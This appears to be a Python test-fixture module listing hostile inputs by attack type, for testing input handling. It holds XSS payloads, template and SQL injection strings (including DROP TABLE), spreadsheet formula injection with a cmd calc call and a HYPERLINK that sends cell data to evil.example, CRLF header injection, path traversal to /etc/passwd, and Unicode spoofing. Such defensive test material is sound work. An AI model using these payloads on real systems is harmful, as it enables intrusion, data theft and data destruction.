"""Texts that somebody might write to do harm, by what they would do."""

from collections.abc import Mapping

SCRIPT = "window.evil = 1"

TEXTS: Mapping[str, str] = {
    "script": f"<script>{SCRIPT}</script>",
    "picture that fails": f"<img src=x onerror='{SCRIPT}'>",
    "end of a tag": f"\"'><svg/onload={SCRIPT}>",
    "end of a template": f"</textarea></style></title><script>{SCRIPT}</script>",
    "address with a script": f"javascript:{SCRIPT}//",
    "markdown": f"[tap](javascript:{SCRIPT}) ![x](https://evil.example/pixel.gif)",
    "template of Jinja": "{{ 7*7 }}{% for x in range(9) %}evil{% endfor %}{{ ''.__class__ }}",
    "template of JavaScript": "${7*7} `${alert(1)}` #{7*7} <%= 7*7 %>",
    "format of Python": "%s %(x)s {0.__class__} {x!r} %n%n",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"tap")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "line ends": "ok\r\nBcc: evil@evil.example\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    "forged log": "ok\n2026-01-01T00:00:00Z [critical] forged",
    "control of a terminal": "\x1b[2J\x1b]0;evil\x07\x9b31m red",
    "NUL": "before\x00after",
    "SQL": "'; DROP TABLE stream; --",
    "SQL's wildcard": "%_%_\\%' OR 1=1",
    "JSON": '{"a": [1, "\\u0000"]}',
    "path": "../../../../etc/passwd",
    "turned round": "\u202egpj.exe\u202c \u2066\u2067\u2068",
    "cannot be seen": "v\u200bi\u200cs\u200di\ufeffb\u2060le \u00ad",
    "separators": "one\u2028two\u2029three\x85four",
    "piled marks": "Z" + "\u0335\u0321\u0489\u0300" * 200,
    "emoji": "👩‍👩‍👧‍👦" * 1_400,
    "word without end": "W" * 9_000,
    "wide characters": "﷽" * 2_000,
    "right to left": "مرحبا بالعالم " * 50,
    "outside the first plane": "𠮷" * 5_000,
    "not a character": "\ufffe\uffff\U0010ffff",
    "looks like another": "аdmіn раypаl",
}
BROKEN = {
    "half of a pair": rb'"\ud800"',
    "wrong half": rb'"\udc00 text"',
    "not UTF-8": b'"\xff\xfe\xfa"',
    "overlong": b'"\xc0\xaf"',
    "number too long": b"1" * 5_000,
    "deep": b"[" * 20_000,
}
"""JSON of a field that no client of ours would write."""
